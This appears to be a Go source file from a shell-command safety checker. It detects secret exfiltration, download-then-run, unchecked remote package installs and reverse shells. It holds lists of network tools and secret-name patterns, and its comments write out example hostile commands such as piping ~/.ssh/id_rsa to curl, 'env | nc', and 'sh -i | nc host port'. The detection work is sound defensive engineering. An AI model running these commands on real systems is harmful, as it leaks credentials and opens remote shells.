package rules

import (
	"path"
	"strconv"
	"strings"
	"sync"

	"github.com/guardsh/guardsh/parse"
	"github.com/guardsh/guardsh/programs"
)

// network programs that send data to other hosts.
var senders = sync.OnceValue(func() map[string]bool {
	return map[string]bool{"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "scp": true,
		"rsync": true, "sftp": true, "ssh": true, "ftp": true, "http": true, "https": true, "xh": true, "telnet": true, "openssl": true, "aws": true, "gsutil": true, "rclone": true}
})

func exfiltrates(c *parse.Command) bool {
	name := c.Name()
	switch name {
	case "gh":
		// gh gist create FILE uploads it. (gh api -X DELETE is the
		// hosting pack's.)
		if s, rest := sub(c); s == "gist" && len(rest) > 0 && rest[0].Value == "create" {
			for _, w := range rest[1:] {
				if secretFile(w.Value) {
					return true
				}
			}
		}
		return false
	case "python", "python3":
		// python3 -m http.server --directory ~/.ssh
		w := strings.Join(c.Argv(), " ")
		if strings.Contains(w, "http.server") {
			for _, a := range c.Args {
				if secretFile(a.Value) {
					return true
				}
			}
		}
		return false
	}
	if !senders()[name] {
		return false
	}
	if sendsSecret(c) {
		return true
	}
	for _, r := range c.Redirs {
		if r.Op == "<" && secretAt(c, r.Target.Value) {
			return true
		}
	}
	for i, w := range c.Args[1:] {
		v := w.Value
		if _, val, ok := strings.Cut(v, "=@"); ok && secretAt(c, val) {
			return true
		}
		if strings.HasPrefix(v, "@") && secretAt(c, v[1:]) {
			return true
		}
		if _, val, ok := strings.Cut(v, "--post-file="); ok && secretAt(c, val) || strings.HasPrefix(v, "--body-file=") && secretAt(c, strings.TrimPrefix(v, "--body-file=")) {
			return true
		}
		prev := ""
		if i > 0 {
			prev = c.Args[i].Value
		}
		if (name == "scp" || name == "rsync" || name == "sftp" || name == "rclone" || name == "aws" || name == "gsutil") && secretAt(c, v) &&
			!strings.HasPrefix(v, "-") && !contains([]string{"-i", "-F", "-o", "-e", "--rsh", "-S", "--identity", "-J", "--exclude", "--include", "--filter", "-f", "--exclude-from", "--include-from"}, prev) && !strings.HasPrefix(v, "--") {
			return true
		}
		if (prev == "-T" || prev == "--upload-file" || prev == "--post-file" || prev == "-d" || prev == "--data" || prev == "--data-binary" || prev == "-F" || prev == "--form") && secretAt(c, strings.TrimPrefix(v, "@")) {
			return true
		}
		if !w.Static && secretInURL(v) {
			return true
		}
	}
	// Piped in: cat ~/.ssh/id_rsa | curl -d @- …, env | nc …
	for s := c.StdinFrom; s != nil; s = s.StdinFrom {
		switch s.Name() {
		case "env", "printenv", "set", "export":
			if len(s.Args) == 1 || s.Name() == "printenv" && secretName(s.Args[1].Value) {
				return true
			}
		case "gcloud", "gh", "glab", "security", "vault", "kubectl", "oc", "op", "pass", "gopass", "sops", "infisical", "aws", "az", "doppler", "bw", "heroku":
			if printsSecret(s) {
				return true
			}
		case "gpg", "gpg2":
			for _, w := range s.Args {
				if w.Value == "--export-secret-keys" || w.Value == "--export-secret-subkeys" || secretAt(s, w.Value) {
					return true
				}
			}
		case "cat", "tar", "zip", "base64", "gzip", "head", "tail", "xxd", "7z", "cpio", "bsdtar", "gtar":
			for _, w := range s.Args[1:] {
				if secretAt(s, w.Value) || s.Name() != "cat" && (wholeHome(w.Value) || s.Dir != "" && wholeHome(parse.Clean(s.Resolve(w.Value)))) {
					return true
				}
			}
		}
	}
	return false
}

// secretAt reports a path that holds secrets, as written or where the
// line's own cd makes a relative one point: cd ~/.ssh && nc x 80 < id_rsa.
func secretAt(c *parse.Command, p string) bool {
	return secretFile(p) || c.Dir != "" && secretFile(c.Resolve(p))
}

// sendsSecret reports a file the command sends that is a secret, by the
// program's Send entries in package programs (curl -T/-d @/-F =@/=</
// --data-urlencode @, wget --post-file, scp and rsync sources): read by its
// grammar, so curl --upload-fi F, -TF, -d@F and wget --post-f=F count.
func sendsSecret(c *parse.Command) bool {
	g := programs.Lookup(c.Name())
	if !g.HasSends() {
		return false
	}
	p, words := read(c)
	for _, s := range g.Sent(p, words) {
		if secretAt(c, s.Path) {
			return true
		}
	}
	return false
}

// secretInURL finds a URL carrying a variable named like a secret.
func secretInURL(v string) bool {
	if !strings.Contains(v, "://") {
		return false
	}
	u := strings.ToUpper(v)
	for _, s := range []string{"SECRET", "TOKEN", "PASSWORD", "PASSWD", "API_KEY", "APIKEY", "PRIVATE_KEY", "ACCESS_KEY", "CREDENTIAL"} {
		if strings.Contains(u, "${"+s) || strings.Contains(u, "_"+s+"}") || strings.Contains(u, s+"}") {
			return true
		}
	}
	return false
}

// maxRunSpan bounds the text a download-run finding quotes: from the
// download to its run when they are near, else the download alone.
const maxRunSpan = 400

// downloadThenRun finds a file written by curl or wget that a later command
// of the same input runs: as a program, or as the script of a shell,
// interpreter or source.
func downloadThenRun(r *parse.Result) []hit {
	var out []hit
	var k *checks
	got := map[string]*parse.Command{}
	for _, c := range r.Commands {
		name := c.Name()
		if fetches(c, r) { // curl, wget; misses6: aria2c, axel, httrack, wget2
			for _, f := range fetchTargets(c) {
				got[path.Clean(f)] = c
			}
			continue
		}
		if u := remotePackage(c); u != "" {
			// rpm -Uvh https://…/epel-release.rpm: the package manager
			// downloads it and runs its scripts as root (verify).
			out = append(out, hit{start: c.Start, end: c.End, detail: c.Name() + " installs " + short(u) + " straight from the network, unchecked"})
			continue
		}
		if len(c.Args) == 0 || len(got) == 0 {
			continue
		}
		run := []string{c.Args[0].Value}
		if isShell(name) || name == "source" || name == "." || strings.HasPrefix(name, "python") || name == "perl" || name == "ruby" || name == "node" || name == "php" {
			if ops := args(c, "-o", "-O").operands; len(ops) > 0 {
				run = append(run, ops[0].Value)
			}
		}
		run = append(run, installedFiles(c)...) // pred_redteam5.go: dpkg -i x.deb, java -jar x.jar
		for _, f := range run {
			if first := gotFile(got, f); first != nil {
				if k == nil {
					k = runChecks(r) // file scans only (pred_redteam7.go)
				}
				if k.fetchChecked(first, c, false) {
					continue // checked before it runs (pred_verify.go)
				}
				h := hit{start: first.Start, end: c.End, facts: []string{runFact(r, c, first, f), factRan + ":" + span(c)}}
				if c.End-first.Start > maxRunSpan || c.Start < first.Start {
					// The run is far from the download (another function,
					// 100 lines on: alrra's setup.sh quoted 2,330
					// characters): the finding quotes the download and
					// names the run.
					h.end = first.End
					h.detail = "run by " + short(c.String()) + ", line " + strconv.Itoa(c.Line)
				}
				out = append(out, h)
				break
			}
		}
	}
	return out
}

// downloadTargets returns the files curl or wget write, read by their
// grammars: -o/-O FILE in any spelling, files named after the URL (curl
// -O, wget without -O), in --output-dir or -P DIR when given.
func downloadTargets(c *parse.Command) []string {
	var out []string
	for _, r := range c.Redirs {
		if r.Writes() && r.Target.Static {
			out = append(out, r.Target.Value)
		}
	}
	p := readLine(c)
	if p == nil || p.Err != nil {
		return out
	}
	inDir := false
	for _, w := range programs.Lookup(c.Name()).Written(p) {
		inDir = inDir || w.Dir
	}
	for _, w := range grammarWrites(c) {
		out = append(out, w.Value)
	}
	if !inDir {
		for _, b := range remoteNames(c, p) {
			out = append(out, b, "./"+b)
		}
	}
	return out
}

// reverseShell finds a shell wired to a network socket.
func reverseShell(c *parse.Command) bool {
	if reverseShellPipe(c) {
		return true
	}
	name := c.Name()
	switch name {
	case "nc", "ncat", "netcat", "socat":
	default:
		if !isShell(name) || len(c.Redirs) == 0 {
			return false
		}
	}
	a := args(c)
	switch name {
	case "nc", "ncat", "netcat":
		return a.has("e", "c", "exec", "sh-exec", "lua-exec")
	case "socat":
		net, exec := false, false
		for _, w := range a.words() {
			l := strings.ToLower(w)
			net = net || strings.HasPrefix(l, "tcp") || strings.HasPrefix(l, "udp") || strings.HasPrefix(l, "openssl") || strings.HasPrefix(l, "ssl")
			exec = exec || strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:")
		}
		return net && exec
	}
	if !isShell(name) {
		return false
	}
	for _, r := range c.Redirs {
		if strings.HasPrefix(r.Target.Value, "/dev/tcp/") || strings.HasPrefix(r.Target.Value, "/dev/udp/") {
			return true
		}
	}
	return false
}

// reverseShellPipe finds sh -i | nc host port.
func reverseShellPipe(c *parse.Command) bool {
	switch c.Name() {
	case "nc", "ncat", "netcat", "telnet", "socat", "openssl":
	default:
		return false
	}
	for s := c.StdinFrom; s != nil; s = s.StdinFrom {
		if isShell(s.Name()) && args(s).has("i") {
			return true
		}
	}
	return false
}

func piped(from, to *parse.Command) bool {
	for s := to.StdinFrom; s != nil; s = s.StdinFrom {
		if s == from || s.Start == from.Start && s.End == from.End {
			return true
		}
	}
	return false
}
